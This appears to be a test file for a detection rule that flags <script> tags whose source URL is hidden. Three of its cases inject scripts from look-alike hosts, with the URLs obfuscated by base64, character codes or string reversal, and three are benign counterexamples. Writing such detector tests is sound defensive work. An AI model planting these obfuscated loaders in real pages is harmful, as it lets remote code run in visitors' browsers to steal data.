// Tests for script-loader-untrusted: a <script> injected whose URL was hidden and points to an
// unknown or look-alike host (a first-stage loader). The finding is reported on the hidden
// string. Sections are separate scripts.

// ruleid: script-loader-untrusted
var u = atob('aHR0cHM6Ly9tZXRyaWNzLWNkbi1zdGF0aWMudG9wL2xvYWRlci5qcw==');
var s = document.createElement('script');
s.src = u;
document.head.appendChild(s);

// ---
// ruleid: script-loader-untrusted
var src = String.fromCharCode(104,116,116,112,115,58,47,47,115,101,99,117,114,101,45,112,97,121,103,97,116,101,46,120,121,122,47,108,46,106,115);
var tag = document.createElement('script');
tag.setAttribute('src', src);
document.body.appendChild(tag);

// ---
// ruleid: script-loader-untrusted
var rev = 'sj.redaol/pot.citats-ndc-scirtem//:sptth'.split('').reverse().join('');
document.head.appendChild(Object.assign(document.createElement('script'), { src: rev, async: true }));

// ---
// A tag manager loader whose URL is base64 in its config: a well-known host.
// ok: script-loader-untrusted
var gtmUrl = atob('aHR0cHM6Ly93d3cuZ29vZ2xldGFnbWFuYWdlci5jb20vZ3RtLmpzP2lkPUdUTS1BQkMxMjM=');
var g = document.createElement('script');
g.src = gtmUrl;

// ---
// An unknown host, but written in plain text (other rules cover it).
// ok: script-loader-untrusted
var plain = 'https://widget.reviews-vendor.example.com/loader.js';
var w = document.createElement('script');
w.src = plain;

// ---
// A hidden but first-party path.
// ok: script-loader-untrusted
var local = atob('L3N0YXRpYy9qcy9jaGVja291dC5qcw==');
var l = document.createElement('script');
l.src = local;
